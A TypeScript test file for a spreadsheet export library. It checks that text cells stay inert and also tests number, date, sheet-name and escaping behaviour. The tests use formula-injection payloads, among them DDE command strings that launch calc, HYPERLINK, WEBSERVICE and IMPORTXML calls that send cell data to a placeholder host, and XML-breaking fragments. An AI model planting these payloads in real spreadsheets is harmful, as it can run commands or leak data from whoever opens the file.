import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre/xlsx';
import { expect, test } from 'vitest';
import { markFaults } from './mark-faults.ts';
import { readWorkbook } from './read-workbook.ts';
import { seeded } from './testing/seeded.ts';
import type { Workbook } from './workbook.ts';
import { writeTables } from './write-table.ts';

const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u3000=', '\t=', '"=', "'="];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.invalid/?x="&A1,"看这里")',
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://example.invalid/")',
  'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
  'SUM(A1:A9)*2',
  'A1</t></is></c><c r="Z1"><f>1+1</f></c><is><t>',
  '_x003D_1+1',
  ']]><f>1+1</f>',
  '&#61;1+1',
];

function payloads(count: number, seed: number): readonly string[] {
  const chance = seeded(seed);
  const pairs = PREFIXES.flatMap((prefix) => BODIES.map((body) => prefix + body));
  const longer = (at: number): string =>
    chance.pick(PREFIXES) + chance.pick(BODIES) + String(at) + chance.pick(PREFIXES);
  return [...pairs, ...Array.from({ length: Math.max(0, count - pairs.length) }, (_, at) => longer(at))];
}

function sheetMarkup(bytes: Uint8Array): string {
  return Object.entries(unzipSync(bytes))
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .map(([, part]) => strFromU8(part))
    .join('\n');
}

const payloadCount = process.env['XIANFENG_LONG'] === '1' ? 10_000 : 500;
const seed = Number(process.env['XIANFENG_SEED'] ?? 20_261_120);

test(`${payloadCount} texts that begin like formulas stay texts, in exports and in marked copies (seed ${seed})`, async () => {
  const texts = payloads(payloadCount, seed);
  console.info(`${texts.length} payloads, seed ${seed}`);
  expect(texts.length).toBeGreaterThanOrEqual(500);
  const rows = texts.map((text, at) => ({ number: at + 1, cells: [{ column: 1, value: { text } }] }));
  const written = writeTables([{ name: '=1+1', columns: [{ width: 10 }], rows }]);
  expect(sheetMarkup(written)).not.toMatch(/<f[ >/]|<hyperlink/);
  const read = await readWorkbook(written);
  if (!read.ok) throw new Error(JSON.stringify(read.problems));
  expect(read.value.sheets[0]?.rows.map((row) => row.cells[0])).toEqual(
    texts.map((text) => ({ column: 1, kind: 'text', text })),
  );
  // Another program's reader agrees, and finds no formulas.
  const other = await readXlsx(written);
  for (const cell of other.sheets[0]?.cells?.values() ?? []) expect(cell.formula).toBeUndefined();
  expect(other.sheets[0]?.rows.every(([value]) => typeof value === 'string')).toBe(true);

  const marked = markFaults(
    read.value,
    [{ code: 'x', facts: { sheet: '=1+1', row: 3, column: 'A', value: '=1+1' } }],
    () => '=2+2',
  );
  expect(sheetMarkup(marked)).not.toMatch(/<f[ >/]|<hyperlink/);
  const again = await readWorkbook(marked);
  const kinds = again.ok
    ? again.value.sheets.flatMap((sheet) => sheet.rows.flatMap((row) => row.cells.map((cell) => cell.kind)))
    : [];
  expect(new Set(kinds)).toEqual(new Set(['text', 'number']));
  expect(kinds.filter((kind) => kind === 'number')).toHaveLength(1);
});

test('a text that begins like a formula stays a text after somebody edits it', () => {
  const written = writeTables([
    { name: 'a', columns: [], rows: [{ number: 1, cells: [{ column: 1, value: { text: '=1+1' } }] }] },
  ]);
  const style = Number(/<c r="A1" s="(\d+)"/.exec(sheetMarkup(written))?.[1]);
  const styles = strFromU8(unzipSync(written)['xl/styles.xml'] ?? new Uint8Array());
  const formats = /<cellXfs.*<\/cellXfs>/.exec(styles)?.[0].match(/<xf .*?<\/xf>/g) ?? [];
  expect(formats[style]).toContain('quotePrefix="1"');
  expect(formats[style]).toContain('numFmtId="49"');
});

test('numbers stay numbers and days stay days; what Excel would round stays a text', async () => {
  const values = [
    { number: '9.2' },
    { number: '-0.5' },
    { day: '2019-07-01' },
    { number: '110101199001011234' },
    { text: '007' },
  ];
  const cells = values.map((value, at) => ({ column: at + 1, value }));
  const read = await readWorkbook(writeTables([{ name: 'a', columns: [], rows: [{ number: 1, cells }] }]));
  expect(read.ok && read.value.sheets[0]?.rows[0]?.cells).toEqual([
    { column: 1, kind: 'number', decimal: '9.2' },
    { column: 2, kind: 'number', decimal: '-0.5' },
    { column: 3, kind: 'date', day: '2019-07-01' },
    { column: 4, kind: 'text', text: '110101199001011234' },
    { column: 5, kind: 'text', text: '007' },
  ]);
});

test('names of tabs that Excel would refuse are bent, and no two are alike', async () => {
  const names = ['一/二:三', '', 'a'.repeat(40), 'A'.repeat(40), "'x'"];
  const read = await readWorkbook(writeTables(names.map((name) => ({ name, columns: [], rows: [] }))));
  expect(read.ok && read.value.sheets.map((sheet) => sheet.name)).toEqual([
    '一 二 三',
    'Sheet2',
    'a'.repeat(31),
    `${'A'.repeat(27)} 2`,
    'x',
  ]);
});

test('the same tables give the same bytes', () => {
  const table = { name: 'a', columns: [], rows: [{ number: 1, cells: [{ column: 1, value: { text: 'x' } }] }] };
  expect(writeTables([table])).toEqual(writeTables([table]));
});

test('a sheet survives characters that markup cannot hold', async () => {
  const workbook: Workbook = {
    sheets: [
      {
        name: 'a',
        isHidden: false,
        merges: [],
        rows: [{ number: 1, cells: [{ column: 1, kind: 'text', text: 'a<&>"_x0041_b' }] }],
      },
    ],
  };
  const read = await readWorkbook(markFaults(workbook, [], () => ''));
  expect(read.ok && read.value.sheets[1]?.rows[0]?.cells[0]).toEqual({
    column: 1,
    kind: 'text',
    text: 'a<&>"_x0041_b',
  });
});
